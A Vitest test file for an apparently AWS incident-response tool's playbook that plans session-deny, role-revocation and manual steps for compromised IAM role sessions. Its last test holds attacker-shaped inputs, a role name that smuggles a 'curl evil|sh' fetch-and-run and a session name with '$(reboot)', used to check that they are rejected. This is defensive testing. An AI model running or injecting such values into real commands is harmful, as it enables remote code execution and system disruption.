/**
 * The iam-role-session plan, case by case: a named session gets the session deny and the destructive role-wide
 * revocation; instance credentials, protected roles (by name or by a blocking guardrail) and an unknown role get no
 * step and manual steps that say why and what to do; finding values reach commands only in the form AWS gives them.
 */
import { describe, expect, it } from 'vitest';
import { IAM_ROLE_SESSION_PLAYBOOK, iamRoleSessionPlaybook, roleSessionCase } from '../../../src/playbooks/iam-role-session.js';
import { PLAYBOOKS } from '../../../src/playbooks/playbook-list.js';
import { buildPlan, defaultPlaybookFor } from '../../../src/playbooks/registry.js';
import type { GuardrailVerdict } from '../../../src/policy/guardrails.js';
import { finding, otherSubject } from '../policy/fixtures.js';

const f = finding('Impact:IAMUser/CostHarvesting', { firstSeen: '2026-12-03T07:00:00.000Z' });
const session = (roleName: string | undefined, principalId = 'AROA3XFRBF23EXAMPLE2:chat-backend') => {
  const [roleId, sessionName] = principalId.split(':');
  return otherSubject('iam-role-session', { id: principalId, details: { roleName, roleId, sessionName, principalId, accessKeyId: 'ASIA3XFRBF23EXAMPLE8' } });
};
const plan = (s: ReturnType<typeof session>, guardrails: GuardrailVerdict[] = []) => iamRoleSessionPlaybook.plan(f, s, {}, guardrails);

describe('iam-role-session plan', () => {
  it('is the default playbook of iam-role-session subjects, registered once', () => {
    expect(defaultPlaybookFor(session('r'))).toBe(IAM_ROLE_SESSION_PLAYBOOK);
    expect(PLAYBOOKS.filter((p) => p.name === IAM_ROLE_SESSION_PLAYBOOK)).toHaveLength(1);
  });

  it('a named session: deny that session (contain), then the role-wide revocation (destructive, after it)', () => {
    const p = plan(session('chat-backend-role'));
    expect(p.steps).toEqual([
      expect.objectContaining({ id: 'deny-role-session', action: 'iam.deny-role-session', effect: 'contain', reversible: true, input: { roleName: 'chat-backend-role', sessionName: 'chat-backend', roleId: 'AROA3XFRBF23EXAMPLE2' }, dependsOn: [] }),
      expect.objectContaining({ id: 'revoke-role-sessions', action: 'iam.revoke-role-sessions', effect: 'destructive', input: { roleName: 'chat-backend-role' }, after: ['deny-role-session'] }),
    ]);
    expect(p.manualSteps!.map((m) => m.id)).toEqual(['cut-assumption-source']);
    expect(p.manualSteps![0]!.commands![0]).toBe(
      'aws cloudtrail lookup-events --lookup-attributes AttributeKey=ResourceName,AttributeValue=arn:aws:iam::123456789012:role/chat-backend-role --start-time 2026-12-03T07:00:00.000Z',
    );
  });

  it('instance credentials (session = instance id): no step here; the ec2-instance incident denies that session', () => {
    const p = plan(session('gpu-node-role', 'AROA3XFRBF23EXAMPLE1:i-0a1b2c3d4e5f60718'));
    expect(p.steps).toEqual([]);
    expect(p.manualSteps!.map((m) => m.id)).toEqual(['instance-session']);
    expect(p.manualSteps![0]!.why).toMatch(/deny-instance-session.*no second deny/);
    // The same deny the ec2-instance step would put, for a human when that incident does not contain the instance.
    const byHand = p.manualSteps![0]!.commands!.find((c) => c.startsWith('aws iam put-role-policy'))!;
    expect(byHand).toContain('--role-name gpu-node-role --policy-name tourniquet-deny-i-0a1b2c3d4e5f60718');
    expect(byHand).toContain('"aws:userid":"AROA3XFRBF23EXAMPLE1:i-0a1b2c3d4e5f60718"');
    expect(byHand).toContain('"ec2:SourceInstanceARN":"arn:aws:ec2:us-east-1:123456789012:instance/i-0a1b2c3d4e5f60718"');
  });

  it.each([
    ['AWSServiceRoleForAmazonSageMakerNotebooks', 'service-linked-role', /service-linked role/],
    ['AWSReservedSSO_DataScience_0123456789abcdef', 'sso-deny-session', /Identity Center role/],
  ])('protected by name (%s): no step, manual steps saying why', (roleName, id, why) => {
    const p = plan(session(roleName));
    expect(p.steps).toEqual([]);
    expect(p.manualSteps![0]!.id).toBe(id);
    expect(p.manualSteps![0]!.why).toMatch(why);
  });

  it('Identity Center: deny in the permission set (named from the role), re-provision, remove the assignment, disable the user', () => {
    const p = plan(session('AWSReservedSSO_DataScience_0123456789abcdef', 'AROA3XFRBF23EXAMPLE3:alice@example.com'));
    expect(p.manualSteps!.map((m) => m.id)).toEqual(['sso-deny-session', 'sso-remove-assignment', 'sso-disable-user']);
    const all = p.manualSteps!.flatMap((m) => m.commands ?? []).join('\n');
    expect(all).toContain('"aws:userid":"AROA3XFRBF23EXAMPLE3:alice@example.com"');
    expect(all).toContain('aws sso-admin provision-permission-set --instance-arn <instance-arn> --permission-set-arn <permission-set-arn> --target-type AWS_ACCOUNT --target-id 123456789012');
    expect(all).toContain('aws sso-admin delete-account-assignment --instance-arn <instance-arn> --target-id 123456789012 --target-type AWS_ACCOUNT --permission-set-arn <permission-set-arn> --principal-type USER --principal-id <user-id>');
    expect(p.manualSteps![0]!.title).toContain('permission set DataScience');
  });

  it.each([
    ['responder-self', 'responder-role-session'],
    ['protected-principal', 'protected-role-session'],
  ] as const)('a blocking %s guardrail: no step, manual steps with its reason and the exact deny to apply by hand', (guardrail, id) => {
    const verdict: GuardrailVerdict = { guardrail, outcome: 'block', reason: `REASON of ${guardrail}` };
    const p = plan(session('TourniquetResponder'), [verdict]);
    expect(p.steps).toEqual([]);
    expect(p.manualSteps![0]!.id).toBe(id);
    expect(p.manualSteps![0]!.why).toContain(`REASON of ${guardrail}`);
    expect(p.manualSteps![0]!.commands!.join('\n')).toContain(
      `aws iam put-role-policy --role-name TourniquetResponder --policy-name tourniquet-deny-session-chat-backend --policy-document '{"Version":"2012-10-17","Statement":[{"Sid":"TourniquetDenyRoleSession","Effect":"Deny","Action":"*","Resource":"*","Condition":{"StringLike":{"aws:userid":"AROA3XFRBF23EXAMPLE2:chat-backend"}}}]}'`,
    );
    // A passing verdict changes nothing.
    expect(plan(session('TourniquetResponder'), [{ ...verdict, outcome: 'pass' }]).steps).toHaveLength(2);
  });

  it('a Bedrock-logging finding: the invocation-logging check (with the rule\'s destination) after the session steps; protected roles still get no step', () => {
    const logging = finding('DefenseEvasion:IAMUser/BedrockLoggingDisabled', { firstSeen: '2026-12-03T07:00:00.000Z' });
    const s3 = { s3: { bucketName: 'bedrock-logs', keyPrefix: 'invocations/' } };
    const p = iamRoleSessionPlaybook.plan(logging, session('chat-backend-role'), { invocationLogging: { ...s3, keepOnRelease: true } }, []);
    expect(p.steps.map((x) => x.id)).toEqual(['deny-role-session', 'revoke-role-sessions', 'ensure-invocation-logging']);
    expect(p.steps[2]).toEqual(expect.objectContaining({ action: 'bedrock.ensure-invocation-logging', effect: 'contain', input: { destination: s3, keepOnRelease: true }, dependsOn: [] }));
    expect(iamRoleSessionPlaybook.plan(logging, session('r', 'AROA3XFRBF23EXAMPLE2'), {}, []).steps.map((x) => x.id)).toEqual(['revoke-role-sessions', 'ensure-invocation-logging']);
    for (const roleName of ['AWSServiceRoleForAmazonSageMakerNotebooks', 'AWSReservedSSO_DataScience_0123456789abcdef']) {
      expect(iamRoleSessionPlaybook.plan(logging, session(roleName), {}, []).steps).toEqual([]);
    }
    expect(iamRoleSessionPlaybook.plan(logging, session('r'), {}, [{ guardrail: 'protected-principal', outcome: 'block', reason: 'x' }]).steps).toEqual([]);
    expect(iamRoleSessionPlaybook.plan(logging, session('gpu-node-role', 'AROA3XFRBF23EXAMPLE1:i-0a1b2c3d4e5f60718'), {}, []).steps).toEqual([]);
    // Not a logging finding and not an AI subject: no check.
    expect(plan(session('chat-backend-role')).steps.map((x) => x.id)).not.toContain('ensure-invocation-logging');
  });

  it('the engine passes the decision’s verdicts: buildPlan with a blocking verdict plans no step', () => {
    expect(buildPlan(IAM_ROLE_SESSION_PLAYBOOK, f, session('r'), {}, undefined, [{ guardrail: 'responder-self', outcome: 'block', reason: 'x' }]).steps).toEqual([]);
    expect(buildPlan(IAM_ROLE_SESSION_PLAYBOOK, f, session('r')).steps).toHaveLength(2);
  });

  it('no session name: the revocation only; no role name: nothing, and how to find the role', () => {
    expect(plan(session('r', 'AROA3XFRBF23EXAMPLE2')).steps.map((s) => s.id)).toEqual(['revoke-role-sessions']);
    const unknown = plan(session(undefined));
    expect(unknown.steps).toEqual([]);
    expect(unknown.manualSteps![0]!.commands![0]).toBe(`aws iam list-roles --query "Roles[?RoleId=='AROA3XFRBF23EXAMPLE2'].[RoleName,Arn]"`);
  });

  it('attacker-shaped values never reach a step or a command: placeholders instead', () => {
    const hostile = session("r'; curl evil|sh #", "AROA3XFRBF23EXAMPLE2:x$(reboot)");
    expect(roleSessionCase(hostile, []).kind).toBe('unknown-role');
    expect(plan(hostile).steps).toEqual([]);
    const badSession = plan(session('AWSReservedSSO_Admin_0123456789abcdef', "AROA3XFRBF23EXAMPLE2:a'b"));
    const text = JSON.stringify(badSession.manualSteps);
    expect(text).not.toContain("a'b");
    expect(text).toContain('<session-name>');
    expect(plan(session('ok-role', "AROA3XFRBF23EXAMPLE2:a'b")).steps.map((s) => s.id)).toEqual(['revoke-role-sessions']);
  });
});
